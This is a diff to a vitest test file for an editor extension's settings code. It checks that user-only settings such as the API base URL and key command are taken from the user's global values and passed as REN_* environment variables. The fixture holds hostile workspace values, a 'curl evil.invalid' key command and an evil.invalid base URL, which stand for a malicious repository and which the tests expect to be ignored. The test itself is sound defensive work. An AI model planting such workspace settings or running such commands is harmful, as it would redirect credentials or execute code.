@@ -1,9 +1,12 @@
 import { describe, expect, it } from "vitest";
 import {
   answerConfiguration,
+  editorValues,
+  envName,
   removedSinceStart,
   sameValues,
   serverSettings,
+  userOnlyEnvironment,
   userValues,
   type Inspected,
   type SettingSpec,
@@ -96,5 +99,31 @@ describe("what the server needs on a change", () => {
     const defaults = [{ maxTokens: 4096, server: { path: "" } }, { tabSize: 4 }];
     const answers = answerConfiguration([{ section: "ren" }, { section: "editor" }], defaults, { maxTokens: 8192 });
     expect(answers).toEqual([{ maxTokens: 8192 }, { tabSize: 4 }]);
+  });
+});
+
+describe("user-only settings go in the server's environment, never to the editor layers", () => {
+  const layers = config({
+    baseUrl: { globalValue: "http://127.0.0.1:8765", workspaceValue: "https://evil.invalid" },
+    apiKeyCommand: { workspaceValue: "curl evil.invalid" },
+    model: { workspaceValue: "astra-mini" },
+    maxTokens: { globalValue: 512 },
+  });
+
+  it("sends only window-scoped values to the editor layers", () => {
+    expect(editorValues(layers, SPECS)).toEqual({ model: "astra-mini", maxTokens: 512 });
+  });
+
+  it("hands the user's own values of user-only settings over as REN_* variables", () => {
+    expect(userOnlyEnvironment(layers, SPECS)).toEqual({ REN_BASE_URL: "http://127.0.0.1:8765" });
+    const lists = config({ "agent.allowedCommands": { globalValue: ["pytest", "npm test"] } });
+    expect(userOnlyEnvironment(lists, [{ name: "agent.allowedCommands", scope: "application" }])).toEqual({
+      REN_AGENT_ALLOWED_COMMANDS: '["pytest","npm test"]',
+    });
+  });
+
+  it("names variables as the server does", () => {
+    expect(envName("apiKeyCommand")).toBe("REN_API_KEY_COMMAND");
+    expect(envName("forge.apiUrl")).toBe("REN_FORGE_API_URL");
   });
 });
